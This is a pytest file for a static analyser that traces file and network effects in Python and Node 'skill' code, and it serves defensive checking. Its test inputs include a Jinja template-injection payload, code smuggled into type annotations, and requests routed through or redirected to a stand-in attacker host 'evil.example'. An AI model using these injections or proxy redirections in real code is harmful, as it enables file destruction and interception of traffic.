"""Containers, frameworks and models give back the objects that they are given."""

import pytest
from skills import check_skill

from remit.analysis.summaries.library import Library

HEAD = "import sys\nfrom pathlib import Path\n"
WIPE = HEAD + "def wipe(p): open(p, 'w').close()\nwipe('old.txt')\n"
CONFIG = (
    HEAD
    + "from pydantic import BaseModel\nclass Inner(BaseModel):\n    log: 'Path'\nclass Config(BaseModel):\n    out: Path\n"
)


@pytest.mark.parametrize(
    "source",
    [
        "import numpy as np\nfor part in np.array_split([Path('v')], 2):\n    for p in part: p.unlink()\n",
        "import numpy as np\nnp.array([Path('v')]).reshape(-1).tolist()[0].unlink()\n",
        "import pandas as pd\nd = pd.DataFrame({'p': [Path('v')]})\nd['p'].apply(lambda p: p.unlink())\n",
        "import pandas as pd\nd = pd.DataFrame()\nd['p'] = [Path('v')]\nfor row in d.itertuples(): row.p.unlink()\n",
        "import pandas as pd\npd.Series(['v']).map(Path)[0].unlink()\n",
        "import queue\nq = queue.Queue()\nq.put(Path('v'))\nq.get().unlink()\n",
        "import operator\noperator.getitem({'a': Path('v')}, 'a').unlink()\n",
        "from dataclasses import dataclass, asdict\n@dataclass\nclass C:\n    p: Path\nasdict(C(Path('v')))['p'].unlink()\n",
    ],
)
def test_a_container_gives_back_what_it_was_given(python, source):
    found = python(HEAD + source)
    assert found.scopes("file.delete") & {"./v", "any"}
    assert not found.opaque


@pytest.mark.parametrize(
    "source",
    [
        "import queue\nq = queue.Queue()\nq.put(wipe)\nq.get()('v')\n",
        (
            "import asyncio\nasync def a(): return wipe\nasync def m():\n    async with asyncio.TaskGroup() as g: t = g.create_task(a())\n"
            "    return t.result()\nasyncio.run(m())('v')\n"
        ),
        "from concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(lambda: wipe).result()('v')\n",
        "import argparse\np = argparse.ArgumentParser()\np.set_defaults(f=wipe)\np.get_default('f')('v')\n",
        "import enum\nclass E(enum.Enum):\n    @staticmethod\n    def _generate_next_value_(name, *_): wipe(name)\n    v = enum.auto()\n",
    ],
)
def test_functions_come_back_too(python, source):
    assert python(WIPE + source).scopes("file.write") & {"./v", "any"}


def test_plain_data_stays_plain(python):
    found = python(
        HEAD + "import numpy as np\na = np.array([1, 2])\nb = a.tolist()[0].bit_length()\nPath('x').touch()\n"
    )
    assert found.effects == {("file.write", "./x")}
    assert not found.opaque


@pytest.mark.parametrize(
    "source",
    [
        "Config(out='v').out.unlink()\n",
        "Config(**{'out': 'v'}).model_dump()['out'].unlink()\n",
        "Config.model_validate({'out': 'v'}).out.unlink()\n",
        "Config.model_construct(out=Path('v')).dict()['out'].unlink()\n",
        "Config(out='w').model_copy(update={'out': Path('v')}).out.unlink()\n",
        "class Many(Config):\n    more: list[Path]\nfor p in Many(out='w', more=['v']).more: p.unlink()\n",
        "class Outer(BaseModel):\n    inner: Inner | None = None\nOuter(inner={'log': 'v'}).inner.log.unlink()\n",
    ],
)
def test_a_field_is_what_its_annotation_makes_of_the_value(python, source):
    found = python(CONFIG + source)
    assert "./v" in found.scopes("file.delete")
    assert not found.opaque


@pytest.mark.parametrize(
    "source",
    [
        "Config.model_validate_json(sys.argv[1]).out.unlink()\n",
        "from pydantic import TypeAdapter\nfor c in TypeAdapter(list[Inner]).validate_python(sys.argv): c.log.unlink()\n",
        (
            "from pydantic import field_validator\nclass C(BaseModel):\n    n: str\n    @field_validator('n')\n"
            "    def v(cls, x): return Path(x)\nC(n='q').n.unlink()\n"
        ),
    ],
)
def test_what_a_model_makes_of_outside_data_is_reported(python, source):
    assert python(CONFIG + source).scopes("file.delete")


@pytest.mark.parametrize(
    "source",
    [
        "class C:\n    x: \"__import__('os').remove('v')\" = 1\n",
        "def f(x: \"open('v', 'w')\"): pass\n",
        "def f() -> \"list[open('v', 'w')]\": pass\n",
    ],
)
def test_a_text_in_an_annotation_is_code(python, source):
    assert python(source).effects


def test_a_literal_in_an_annotation_is_no_code(python):
    assert not python("from typing import Literal\nx: Literal[\"open('v', 'w')\"] = 1\n").effects


TEMPLATE = HEAD + "import jinja2\n"


@pytest.mark.parametrize(
    "source",
    [
        "jinja2.Template('{{ p.unlink() }}').render(p=Path('v'))\n",
        "jinja2.Template('{% for p in ps %}{{ p.unlink() }}{% endfor %}').render({'ps': [Path('v')]})\n",
        "e = jinja2.Environment()\ne.globals.update(p=Path('v'))\ne.from_string('{{ p.unlink() }}').render()\n",
        "e = jinja2.Environment()\ne.filters['gone'] = lambda p: Path(p).unlink()\ne.from_string('{{ 1|gone }}').render()\n",
        "import shutil\njinja2.Template('{{ s.rmtree(1) }}').render(s=shutil)\n",
    ],
)
def test_a_template_uses_what_it_is_given(python, source):
    found = python(TEMPLATE + source)
    assert found.scopes("file.delete")
    assert not found.opaque


@pytest.mark.parametrize(
    "source",
    [
        "jinja2.Template(\"{{ cycler.__init__.__globals__.os.remove('v') }}\").render()\n",
        "jinja2.Template('{{ x|attr(y) }}').render()\n",
        "jinja2.Template(sys.argv[1]).render()\n",
        "jinja2.Template('Hello ' + sys.argv[1]).render()\n",
        "jinja2.Template(Path('t.html').read_text()).render(x=1)\n",
        "jinja2.Environment(loader=jinja2.FileSystemLoader('templates')).get_template('a.html').render(x=1)\n",
    ],
)
def test_a_template_that_reaches_further_or_is_not_ours_is_opaque(python, source):
    assert any("template" in reason for reason in python(TEMPLATE + source).opaque)


def test_a_sandbox_with_plain_data_is_not(python):
    source = (
        "from jinja2.sandbox import SandboxedEnvironment\nSandboxedEnvironment().from_string(sys.argv[1]).render(x=1)\n"
    )
    assert not python(TEMPLATE + source).opaque


def test_templates_of_the_skill_are_read(tmp_path):
    source = (
        "import jinja2\nfrom pathlib import Path\n"
        "e = jinja2.Environment(loader=jinja2.FileSystemLoader(Path(__file__).parent / 'templates'))\n"
        "e.get_template('a.html').render(title='x', rows=[{'n': 1}], p=Path('v'))\n"
    )
    plain = {"templates/a.html": "{% extends 'b.html' %}{{ title|upper }}{% for r in rows %}{{ r.n }}{% endfor %}"}
    other = {"templates/b.html": "{% block x %}{% endblock %}"}
    found = check_skill(tmp_path / "a", {"main.py": source, **plain, **other})
    assert not found.opaque
    assert found.effects == {("file.read", "$SKILL/templates/a.html")}
    found = check_skill(tmp_path / "b", {"main.py": source, **plain, "templates/b.html": "{{ p.unlink() }}"})
    assert "./v" in found.scopes("file.delete")


NET = HEAD + "import os, requests, httpx, urllib.request\n"


@pytest.mark.parametrize(
    "source",
    [
        "requests.get('http://a.example/', proxies={'http': 'http://evil.example:8080'})\n",
        "s = requests.Session()\ns.proxies.update({'http': 'http://evil.example:8080'})\n",
        "s = requests.Session()\ns.proxies = {'http': 'http://evil.example:8080'}\n",
        "urllib.request.build_opener(urllib.request.ProxyHandler({'http': 'http://evil.example:8080'}))\n",
        "httpx.get('http://a.example/', proxy='http://evil.example:8080')\n",
        "os.environ['HTTPS_PROXY'] = 'http://evil.example:8080'\n",
        "import subprocess\nsubprocess.run(['curl', 'http://a.example/'], env={'http_proxy': 'http://evil.example:8080'})\n",
    ],
)
def test_a_proxy_of_the_skill_is_a_connection(python, source):
    assert "evil.example:8080" in python(NET + source).scopes("net.connect")


def test_a_proxy_of_the_caller_is_none(python):
    source = "os.environ['http_proxy'] = os.environ['HTTP_PROXY']\n"
    assert "net.connect" not in python(NET + source).capabilities


@pytest.mark.parametrize(
    ("source", "capability", "scopes"),
    [
        ("import numpy as np\nnp.save('a', [])\nnp.savez('b.npz', x=1)\nnp.savez_compressed('c.d', x=1)\n", "file.write",
         {"./a.npy", "./b.npz", "./c.d.npz"}),
        ("import matplotlib.pyplot as plt\nplt.savefig('a')\nplt.savefig('b.svg')\n", "file.write", {"./a.png", "./b.svg"}),
        ("import fileinput\nfor x in fileinput.input('a', inplace=True, backup='.o'): pass\n", "file.delete", {"./a", "./a.o"}),
        ("import sqlite3\nsqlite3.connect('a.db').execute(\"attach 'b' || '.db' as o\")\n", "file.write", {"./a.db", "any"}),
    ],
)  # fmt: skip
def test_names_that_libraries_form(python, source, capability, scopes):
    assert python(source).scopes(capability) == scopes


@pytest.mark.parametrize(
    "source",
    [
        "require('http').get({ host: 'a.example', lookup: (h, o, cb) => cb(null, '127.9.0.2', 4) });\n",
        "const http = require('http');\nnew http.Agent({ createConnection: () => 1 });\n",
        "require('axios').get('http://a.example/', { lookup: () => 1 });\n",
    ],
)
def test_a_function_that_routes_a_request_is_opaque(node, source):
    assert any("connection" in reason for reason in node(source).opaque)


def test_a_proxy_among_the_options_of_a_request_is_a_connection(node):
    source = "require('axios').get('http://a.example/', { proxy: { host: 'evil.example', port: 8080 } });\n"
    assert "evil.example" in node(source).scopes("net.connect")


@pytest.mark.parametrize(
    "source",
    [
        "r = requests.Request('GET', 'http://a.example/').prepare()\nr.url = 'http://evil.example/'\n",
        "c = httpx.Client(base_url='http://a.example')\nc.base_url = 'http://evil.example/'\n",
        "def f(r):\n    r.url = 'http://evil.example/'\n    return r\nrequests.get('http://a.example/', auth=f)\n",
        "r = urllib.request.Request('http://a.example/')\nr.full_url = 'http://evil.example/'\n",
    ],
)
def test_an_attribute_that_says_where_a_request_goes_counts(python, source):
    assert "evil.example:80" in python(NET + source).scopes("web.post")


@pytest.mark.parametrize("name", ["headers", "params", "verify"])
def test_an_attribute_of_a_session_that_is_listed_is_harmless(python, name):
    found = python(NET + f"s = requests.Session()\ns.{name} = {{}}\n")
    assert not found.effects
    assert not found.opaque


def test_what_assigning_does_is_found_along_the_bases():
    library = Library("python")
    assert library.setter("http.server.ThreadingHTTPServer", "done") is not None
    assert library.setter("pptx.presentation.Presentation", "slide_width") is not None  # closed as pure
    assert library.setter("openai.AsyncOpenAI", "base_url").effects
    assert library.setter("requests.models.PreparedRequest", "unknown") is None
